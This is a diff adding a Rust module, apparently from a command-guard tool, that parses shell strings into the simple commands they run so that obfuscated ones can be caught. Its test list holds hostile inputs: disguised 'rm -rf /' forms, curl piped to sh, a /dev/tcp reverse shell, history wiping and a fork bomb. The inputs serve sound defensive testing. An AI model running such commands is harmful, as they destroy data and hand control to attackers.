@@ -1,0 +1,701 @@
+//! Shell strings (`bash -c STRING`, `eval`, here-documents fed to a shell, `warden test`)
+//! parsed with `brush-parser` into every simple command they run: across pipelines, `&&`,
+//! `||`, `;`, subshells, groups, loops, functions, `$(…)`, backticks and `<(…)`.
+//!
+//! Input that is not UTF-8 is parsed lossily (each invalid byte becomes U+FFFD), so such a
+//! byte can never turn into a different, innocent-looking command name. Input that is too
+//! large, nested too deeply or not valid shell syntax is reported as [`ShellError`]; the
+//! policy's `unparsable` action then decides.
+
+use std::borrow::Cow;
+
+use brush_parser::ast::{self, CommandPrefixOrSuffixItem as Item};
+use brush_parser::word::{self, ParameterExpr, TildeExpr, WordPiece, WordPieceWithSource};
+use brush_parser::ParserOptions;
+
+use super::unit::{basename, Unit};
+use super::unwrap::{self, Inner};
+
+/// Longest shell string the engine parses.
+pub(crate) const MAX_LEN: usize = 256 * 1024;
+/// Deepest nesting of shells, substitutions and wrappers the engine follows.
+pub(crate) const MAX_DEPTH: usize = 32;
+/// Most simple commands one evaluation looks at.
+const MAX_UNITS: usize = 4096;
+
+#[derive(Debug, thiserror::Error, PartialEq, Eq)]
+pub(crate) enum ShellError {
+    #[error("shell string of {0} bytes is longer than the {MAX_LEN}-byte limit")]
+    TooLong(usize),
+    #[error("shell string is nested deeper than {MAX_DEPTH} levels")]
+    TooDeep,
+    #[error("shell string has more than {MAX_UNITS} commands")]
+    TooMany,
+    #[error("shell syntax error: {0}")]
+    Syntax(String),
+}
+
+/// Parses `text` into the simple commands it runs. `depth` counts the enclosing levels.
+pub(crate) fn parse(text: &[u8], depth: usize) -> Result<Vec<Unit<'static>>, ShellError> {
+    let mut walker = Walker {
+        options: ParserOptions::default(),
+        units: Vec::new(),
+        functions: Vec::new(),
+    };
+    walker.parse(text, depth)?;
+    Ok(walker.units)
+}
+
+struct Walker {
+    options: ParserOptions,
+    units: Vec<Unit<'static>>,
+    /// Shell functions whose bodies are being walked, to spot self-calls (fork bombs).
+    functions: Vec<String>,
+}
+
+/// What redirections contribute to the commands they apply to.
+#[derive(Default)]
+struct Redirections {
+    /// Files written (`>`, `>>`, `>&`, `&>`).
+    targets: Vec<Vec<u8>>,
+    /// Files read (`<`).
+    inputs: Vec<Vec<u8>>,
+    stdin_text: Option<Vec<u8>>,
+    feeders: Vec<Vec<u8>>,
+}
+
+impl Walker {
+    fn parse(&mut self, text: &[u8], depth: usize) -> Result<(), ShellError> {
+        if text.len() > MAX_LEN {
+            return Err(ShellError::TooLong(text.len()));
+        }
+        if depth > MAX_DEPTH || bracket_depth(text) > MAX_DEPTH {
+            return Err(ShellError::TooDeep);
+        }
+        let text = String::from_utf8_lossy(text);
+        let mut parser = brush_parser::Parser::new(text.as_bytes(), &self.options);
+        let program = parser
+            .parse_program()
+            .map_err(|e| ShellError::Syntax(e.to_string()))?;
+        for list in &program.complete_commands {
+            self.list(list, depth)?;
+        }
+        Ok(())
+    }
+
+    fn list(&mut self, list: &ast::CompoundList, depth: usize) -> Result<(), ShellError> {
+        for ast::CompoundListItem(and_or, _) in &list.0 {
+            self.pipeline(&and_or.first, depth)?;
+            for next in &and_or.additional {
+                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
+                self.pipeline(p, depth)?;
+            }
+        }
+        Ok(())
+    }
+
+    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`); text
+    /// that `echo`, `printf` or `cat <<EOF` pipe on becomes the next stage's standard input.
+    fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize) -> Result<(), ShellError> {
+        let mut upstream: Vec<Vec<u8>> = Vec::new();
+        let mut carried: Option<Vec<u8>> = None;
+        for command in &pipeline.seq {
+            let start = self.units.len();
+            self.command(command, depth)?;
+            for unit in &mut self.units[start..] {
+                unit.fed_by.extend(upstream.iter().cloned().map(Cow::Owned));
+            }
+            if let (Some(text), Some(first)) = (carried.take(), self.units.get_mut(start)) {
+                first.stdin_text.get_or_insert(Cow::Owned(text));
+            }
+            for unit in &self.units[start..] {
+                program_names(unit, 0, &mut upstream);
+            }
+            carried = self.units.get(start).and_then(piped_text);
+        }
+        Ok(())
+    }
+
+    fn command(&mut self, command: &ast::Command, depth: usize) -> Result<(), ShellError> {
+        match command {
+            ast::Command::Simple(simple) => self.simple(simple, depth),
+            ast::Command::Compound(compound, redirects) => {
+                let start = self.units.len();
+                self.compound(compound, depth)?;
+                self.apply_redirects(start, redirects.as_ref(), depth)
+            }
+            ast::Command::Function(function) => {
+                let start = self.units.len();
+                self.functions.push(function.fname.value.clone());
+                let walked = self.compound(&function.body.0, depth);
+                self.functions.pop();
+                walked?;
+                self.apply_redirects(start, function.body.1.as_ref(), depth)
+            }
+            ast::Command::ExtendedTest(test, _) => {
+                let mut words = Vec::new();
+                extended_test_words(&test.expr, &mut words);
+                let mut feeders = Vec::new();
+                for w in words {
+                    self.word(w, depth, &mut feeders)?;
+                }
+                Ok(())
+            }
+        }
+    }
+
+    fn compound(
+        &mut self,
+        compound: &ast::CompoundCommand,
+        depth: usize,
+    ) -> Result<(), ShellError> {
+        use ast::CompoundCommand as C;
+        let mut feeders = Vec::new();
+        match compound {
+            C::Arithmetic(_) | C::ArithmeticForClause(_) => Ok(()),
+            C::BraceGroup(group) => self.list(&group.list, depth),
+            C::Subshell(sub) => self.list(&sub.list, depth),
+            C::ForClause(clause) => {
+                for value in clause.values.iter().flatten() {
+                    self.word(value, depth, &mut feeders)?;
+                }
+                self.list(&clause.body.list, depth)
+            }
+            C::CaseClause(clause) => {
+                self.word(&clause.value, depth, &mut feeders)?;
+                for case in &clause.cases {
+                    if let Some(cmd) = &case.cmd {
+                        self.list(cmd, depth)?;
+                    }
+                }
+                Ok(())
+            }
+            C::IfClause(clause) => {
+                self.list(&clause.condition, depth)?;
+                self.list(&clause.then, depth)?;
+                for other in clause.elses.iter().flatten() {
+                    if let Some(condition) = &other.condition {
+                        self.list(condition, depth)?;
+                    }
+                    self.list(&other.body, depth)?;
+                }
+                Ok(())
+            }
+            C::WhileClause(clause) | C::UntilClause(clause) => {
+                self.list(&clause.0, depth)?;
+                self.list(&clause.1.list, depth)
+            }
+            C::Coprocess(coprocess) => self.command(&coprocess.body, depth),
+        }
+    }
+
+    fn simple(&mut self, command: &ast::SimpleCommand, depth: usize) -> Result<(), ShellError> {
+        let slot = self.units.len();
+        self.push(Unit::default())?;
+        let mut unit = Unit::default();
+        let mut feeders: Vec<Vec<u8>> = Vec::new();
+        let mut redirections = Redirections::default();
+        let prefix = command.prefix.iter().flat_map(|p| p.0.iter());
+        let suffix = command.suffix.iter().flat_map(|s| s.0.iter());
+        for item in prefix {
+            match item {
+                Item::AssignmentWord(assignment, word) => {
+                    unit.env.push(Cow::Owned(assignment_name(assignment)));
+                    self.word(word, depth, &mut feeders)?;
+                }
+                other => self.item(other, depth, &mut unit, &mut feeders, &mut redirections)?,
+            }
+        }
+        if let Some(name) = &command.word_or_name {
+            for w in self.word(name, depth, &mut feeders)? {
+                unit.argv.push(Cow::Owned(w));
+            }
+        }
+        for item in suffix {
+            self.item(item, depth, &mut unit, &mut feeders, &mut redirections)?;
+        }
+        declared_variables(&mut unit);
+        unit.program = unit.argv.first().cloned().unwrap_or_default();
+        if self
+            .functions
+            .iter()
+            .any(|f| f.as_bytes() == &*unit.program)
+        {
+            // A function that calls itself: reached `via` "NAME()" (see the fork bomb rule).
+            let mut marker = unit.program.to_vec();
+            marker.extend(b"()");
+            unit.via.push(Cow::Owned(marker));
+        }
+        unit.fed_by.extend(
+            feeders
+                .into_iter()
+                .chain(redirections.feeders)
+                .map(Cow::Owned),
+        );
+        unit.redirects
+            .extend(redirections.targets.into_iter().map(Cow::Owned));
+        unit.inputs
+            .extend(redirections.inputs.into_iter().map(Cow::Owned));
+        unit.stdin_text = redirections.stdin_text.map(Cow::Owned);
+        self.units[slot] = unit;
+        Ok(())
+    }
+
+    /// A word, redirection or process substitution after the command name.
+    fn item(
+        &mut self,
+        item: &Item,
+        depth: usize,
+        unit: &mut Unit<'static>,
+        feeders: &mut Vec<Vec<u8>>,
+        redirections: &mut Redirections,
+    ) -> Result<(), ShellError> {
+        match item {
+            Item::Word(word) | Item::AssignmentWord(_, word) => {
+                for w in self.word(word, depth, feeders)? {
+                    unit.argv.push(Cow::Owned(w));
+                }
+            }
+            Item::IoRedirect(redirect) => self.redirect(redirect, depth, redirections)?,
+            Item::ProcessSubstitution(_, subshell) => {
+                let start = self.units.len();
+                self.list(&subshell.list, depth + 1)?;
+                for nested in &self.units[start..] {
+                    program_names(nested, 0, feeders);
+                }
+                unit.argv.push(Cow::Borrowed(b"<(...)"));
+            }
+        }
+        Ok(())
+    }
+
+    fn redirect(
+        &mut self,
+        redirect: &ast::IoRedirect,
+        depth: usize,
+        into: &mut Redirections,
+    ) -> Result<(), ShellError> {
+        use ast::IoFileRedirectTarget as T;
+        match redirect {
+            ast::IoRedirect::File(_, kind, target) => match target {
+                T::Filename(w) | T::Duplicate(w) => {
+                    use ast::IoFileRedirectKind as K;
+                    let words = self.word(w, depth, &mut into.feeders)?;
+                    let words = words.into_iter().filter(|w| !is_fd(w));
+                    match kind {
+                        K::Read | K::DuplicateInput => into.inputs.extend(words),
+                        K::ReadAndWrite => {
+                            let words: Vec<_> = words.collect();
+                            into.inputs.extend(words.iter().cloned());
+                            into.targets.extend(words);
+                        }
+                        K::Write | K::Append | K::Clobber | K::DuplicateOutput => {
+                            into.targets.extend(words)
+                        }
+                    }
+                }
+                T::Fd(_) => {}
+                T::ProcessSubstitution(_, subshell) => {
+                    let start = self.units.len();
+                    self.list(&subshell.list, depth + 1)?;
+                    for nested in &self.units[start..] {
+                        program_names(nested, 0, &mut into.feeders);
+                    }
+                }
+            },
+            ast::IoRedirect::OutputAndError(w, _) => {
+                let words = self.word(w, depth, &mut into.feeders)?;
+                into.targets.extend(words);
+            }
+            ast::IoRedirect::HereString(_, w) => {
+                let words = self.word(w, depth, &mut into.feeders)?;
+                into.stdin_text = Some(words.join(&b' '));
+            }
+            ast::IoRedirect::HereDocument(_, doc) => {
+                into.stdin_text = Some(doc.doc.value.as_bytes().to_vec());
+            }
+        }
+        Ok(())
+    }
+
+    /// Redirections of a compound command apply to every command inside it.
+    fn apply_redirects(
+        &mut self,
+        start: usize,
+        redirects: Option<&ast::RedirectList>,
+        depth: usize,
+    ) -> Result<(), ShellError> {
+        let Some(list) = redirects else { return Ok(()) };
+        let mut found = Redirections::default();
+        for redirect in &list.0 {
+            self.redirect(redirect, depth, &mut found)?;
+        }
+        for unit in &mut self.units[start..] {
+            unit.redirects
+                .extend(found.targets.iter().cloned().map(Cow::Owned));
+            unit.inputs
+                .extend(found.inputs.iter().cloned().map(Cow::Owned));
+            unit.fed_by
+                .extend(found.feeders.iter().cloned().map(Cow::Owned));
+            if unit.stdin_text.is_none() {
+                unit.stdin_text = found.stdin_text.clone().map(Cow::Owned);
+            }
+        }
+        Ok(())
+    }
+
+    /// Renders a word without quotes and escapes; its command substitutions are parsed as
+    /// commands of their own and their programs recorded in `feeders`. `$IFS` splits words.
+    fn word(
+        &mut self,
+        word: &ast::Word,
+        depth: usize,
+        feeders: &mut Vec<Vec<u8>>,
+    ) -> Result<Vec<Vec<u8>>, ShellError> {
+        let pieces = word::parse(&word.value, &self.options)
+            .map_err(|e| ShellError::Syntax(e.to_string()))?;
+        if let Some(words) = simple_brace_list(&word.value) {
+            return Ok(words);
+        }
+        let mut text = Vec::new();
+        let mut substitutions = Vec::new();
+        render(&word.value, &pieces, &mut text, &mut substitutions);
+        for inner in substitutions {
+            let start = self.units.len();
+            self.parse(inner.as_bytes(), depth + 1)?;
+            for nested in &self.units[start..] {
+                program_names(nested, 0, feeders);
+            }
+        }
+        Ok(split_ifs(text))
+    }
+
+    fn push(&mut self, unit: Unit<'static>) -> Result<(), ShellError> {
+        if self.units.len() >= MAX_UNITS {
+            return Err(ShellError::TooMany);
+        }
+        self.units.push(unit);
+        Ok(())
+    }
+}
+
+/// Appends the unquoted text of `pieces` to `out`; command substitutions go to `subs`.
+fn render(source: &str, pieces: &[WordPieceWithSource], out: &mut Vec<u8>, subs: &mut Vec<String>) {
+    for piece in pieces {
+        let raw = source.get(piece.start_index..piece.end_index).unwrap_or("");
+        match &piece.piece {
+            WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => out.extend(s.as_bytes()),
+            WordPiece::AnsiCQuotedText(s) => ansi_c_unescape(s.as_bytes(), out),
+            WordPiece::DoubleQuotedSequence(inner)
+            | WordPiece::GettextDoubleQuotedSequence(inner) => render(source, inner, out, subs),
+            WordPiece::TildeExpansion(tilde) => match tilde {
+                TildeExpr::UserHome(user) => {
+                    out.push(b'~');
+                    out.extend(user.as_bytes());
+                }
+                _ => out.push(b'~'),
+            },
+            WordPiece::ParameterExpansion(ParameterExpr::Parameter {
+                parameter: word::Parameter::Named(name),
+                indirect: false,
+            }) => {
+                out.push(b'$');
+                out.extend(name.as_bytes());
+            }
+            WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => {
+                out.extend(raw.as_bytes())
+            }
+            WordPiece::CommandSubstitution(inner) => {
+                out.extend(raw.as_bytes());
+                subs.push(inner.clone());
+            }
+            WordPiece::BackquotedCommandSubstitution(inner) => {
+                out.extend(raw.as_bytes());
+                subs.push(backquote_unescape(inner));
+            }
+            WordPiece::EscapeSequence(s) => {
+                let escaped = s.strip_prefix('\\').unwrap_or(s);
+                if escaped != "\n" {
+                    out.extend(escaped.as_bytes());
+                }
+            }
+        }
+    }
+}
+
+/// `{rm,-rf,/}` is three words to bash. Only the plain form (no quotes, expansions or
+/// nesting) is split; anything fancier stays one word.
+fn simple_brace_list(raw: &str) -> Option<Vec<Vec<u8>>> {
+    let inner = raw.strip_prefix('{')?.strip_suffix('}')?;
+    let plain = inner.contains(',')
+        && !inner.contains(|c: char| "{}'\"\\$`".contains(c) || c.is_whitespace());
+    plain.then(|| inner.split(',').map(|w| w.as_bytes().to_vec()).collect())
+}
+
+/// What a pipeline stage writes, when the engine can know it: `echo`/`printf` arguments,
+/// or the here-document `cat` copies.
+fn piped_text(unit: &Unit<'_>) -> Option<Vec<u8>> {
+    let args = unit.args();
+    match unit.name() {
+        b"echo" | b"printf" => {
+            let words: Vec<&[u8]> = args
+                .iter()
+                .map(|a| &**a)
+                .skip_while(|a| a.starts_with(b"-"))
+                .collect();
+            Some(words.join(&b' '))
+        }
+        b"cat" if args.is_empty() => unit.stdin_text.as_ref().map(|t| t.to_vec()),
+        _ => None,
+    }
+}
+
+fn is_fd(word: &[u8]) -> bool {
+    !word.is_empty() && word.iter().all(|b| b.is_ascii_digit() || *b == b'-')
+}
+
+/// Inside backquotes, `\$`, `` \` `` and `\\` stand for the character itself.
+fn backquote_unescape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\\' {
+            if let Some(&next) = chars.peek() {
+                if matches!(next, '$' | '`' | '\\') {
+                    out.push(next);
+                    chars.next();
+                    continue;
+                }
+            }
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Decodes the escapes of `$'…'` (`$'\x72m'` is `rm`).
+fn ansi_c_unescape(text: &[u8], out: &mut Vec<u8>) {
+    let mut i = 0;
+    while i < text.len() {
+        if text[i] != b'\\' || i + 1 >= text.len() {
+            out.push(text[i]);
+            i += 1;
+            continue;
+        }
+        let c = text[i + 1];
+        i += 2;
+        let simple = match c {
+            b'a' => Some(7),
+            b'b' => Some(8),
+            b'e' | b'E' => Some(27),
+            b'f' => Some(12),
+            b'n' => Some(b'\n'),
+            b'r' => Some(b'\r'),
+            b't' => Some(b'\t'),
+            b'v' => Some(11),
+            b'\\' | b'\'' | b'"' | b'?' => Some(c),
+            _ => None,
+        };
+        if let Some(byte) = simple {
+            out.push(byte);
+            continue;
+        }
+        let (radix, max_digits) = match c {
+            b'x' => (16, 2),
+            b'u' => (16, 4),
+            b'U' => (16, 8),
+            b'0'..=b'7' => {
+                i -= 1;
+                (8, 3)
+            }
+            b'c' if i < text.len() => {
+                out.push(text[i] & 0x1f);
+                i += 1;
+                continue;
+            }
+            _ => {
+                out.extend([b'\\', c]);
+                continue;
+            }
+        };
+        let digits = text[i..]
+            .iter()
+            .take(max_digits)
+            .take_while(|d| {
+                (d.is_ascii_digit() && (**d - b'0') < radix)
+                    || (radix == 16 && d.is_ascii_hexdigit())
+            })
+            .count();
+        let value = std::str::from_utf8(&text[i..i + digits])
+            .ok()
+            .and_then(|d| u32::from_str_radix(d, radix.into()).ok());
+        i += digits;
+        match (value, c) {
+            (Some(v), b'u' | b'U') => {
+                let ch = char::from_u32(v).unwrap_or(char::REPLACEMENT_CHARACTER);
+                out.extend(ch.encode_utf8(&mut [0; 4]).as_bytes());
+            }
+            (Some(v), _) => out.push(v as u8),
+            (None, _) => out.extend([b'\\', c]),
+        }
+    }
+}
+
+/// `rm${IFS}-rf${IFS}/` is three words to the shell.
+fn split_ifs(text: Vec<u8>) -> Vec<Vec<u8>> {
+    const IFS: &[u8] = b"$IFS";
+    if !text.windows(IFS.len()).any(|w| w == IFS) {
+        return vec![text];
+    }
+    let mut words = Vec::new();
+    let mut rest: &[u8] = &text;
+    while let Some(at) = rest.windows(IFS.len()).position(|w| w == IFS) {
+        words.push(rest[..at].to_vec());
+        rest = &rest[at + IFS.len()..];
+    }
+    words.push(rest.to_vec());
+    words.retain(|w| !w.is_empty());
+    words
+}
+
+/// The deepest nesting of brackets, counted before parsing so that the parser never
+/// recurses without bound. Quotes are ignored, which can only overestimate.
+fn bracket_depth(text: &[u8]) -> usize {
+    let (mut depth, mut deepest) = (0usize, 0usize);
+    for &b in text {
+        match b {
+            b'(' | b'{' => {
+                depth += 1;
+                deepest = deepest.max(depth);
+            }
+            b')' | b'}' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+    }
+    deepest
+}
+
+fn assignment_name(assignment: &ast::Assignment) -> Vec<u8> {
+    match &assignment.name {
+        ast::AssignmentName::VariableName(name)
+        | ast::AssignmentName::ArrayElementName(name, _) => name.as_bytes().to_vec(),
+    }
+}
+
+/// `unset VAR`, `export VAR=…`, `declare -x VAR=…` change the environment of what follows.
+fn declared_variables(unit: &mut Unit<'static>) {
+    let Some(program) = unit.argv.first() else {
+        return;
+    };
+    if !matches!(
+        &**program,
+        b"unset" | b"export" | b"declare" | b"typeset" | b"local" | b"readonly"
+    ) {
+        return;
+    }
+    for arg in unit.argv[1..].iter().filter(|a| !a.starts_with(b"-")) {
+        let name = unwrap::assignment_name(arg).unwrap_or(arg);
+        unit.env.push(Cow::Owned(name.to_vec()));
+    }
+}
+
+/// The names of the programs a unit runs, wrappers seen through (`sudo curl` gives both).
+fn program_names(unit: &Unit<'_>, depth: usize, into: &mut Vec<Vec<u8>>) {
+    if unit.program.is_empty() {
+        return;
+    }
+    into.push(basename(&unit.program).to_vec());
+    if depth >= MAX_DEPTH {
+        return;
+    }
+    for inner in unwrap::inner(unit) {
+        if let Inner::Command { start, end, .. } = inner {
+            let child = unit.child(&unit.argv[start..end], &unit.program);
+            program_names(&child, depth + 1, into);
+        }
+    }
+}
+
+fn extended_test_words<'a>(expr: &'a ast::ExtendedTestExpr, into: &mut Vec<&'a ast::Word>) {
+    use ast::ExtendedTestExpr as E;
+    match expr {
+        E::And(a, b) | E::Or(a, b) => {
+            extended_test_words(a, into);
+            extended_test_words(b, into);
+        }
+        E::Not(a) | E::Parenthesized(a) => extended_test_words(a, into),
+        E::UnaryTest(_, w) => into.push(w),
+        E::BinaryTest(_, a, b) => {
+            into.push(a);
+            into.push(b);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn show(text: &str) -> Vec<String> {
+        parse(text.as_bytes(), 0)
+            .unwrap()
+            .iter()
+            .map(|u| {
+                let words: Vec<_> = u
+                    .argv
+                    .iter()
+                    .map(|w| String::from_utf8_lossy(w).into_owned())
+                    .collect();
+                let fed: Vec<_> = u
+                    .fed_by
+                    .iter()
+                    .map(|w| String::from_utf8_lossy(w).into_owned())
+                    .collect();
+                let env: Vec<_> = u
+                    .env
+                    .iter()
+                    .map(|w| String::from_utf8_lossy(w).into_owned())
+                    .collect();
+                let red: Vec<_> = u
+                    .redirects
+                    .iter()
+                    .map(|w| String::from_utf8_lossy(w).into_owned())
+                    .collect();
+                format!(
+                    "{words:?} fed={fed:?} env={env:?} redir={red:?} stdin={:?}",
+                    u.stdin_text
+                        .as_ref()
+                        .map(|s| String::from_utf8_lossy(s).into_owned())
+                )
+            })
+            .collect()
+    }
+
+    #[test]
+    fn probe() {
+        for t in [
+            "'r'm -rf /",
+            r"r\m -rf /",
+            r"$'\x72m' -rf /",
+            "echo hi; rm -rf /",
+            "echo $(rm -rf /)",
+            "echo `rm -rf /`",
+            "{rm,-rf,/}",
+            "rm${IFS}-rf${IFS}/",
+            "curl x | sh",
+            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+            "LD_PRELOAD= ls",
+            "export WARDEN_SOCKET=/tmp/x",
+            "rm -rf \"$HOME\" ~/ ${HOME}/x",
+            "bash <(curl -s x)",
+            "sh <<< 'rm -rf /'",
+            "cat <<EOF | sh\nrm -rf /\nEOF\n",
+            "(cd /; rm -rf *) && true || false",
+            "for f in $(ls); do rm $f; done",
+            "> ~/.bash_history",
+            ":(){ :|:& };:",
+        ] {
+            eprintln!("{t:?}\n   {:#?}", show(t));
+        }
+    }
+}
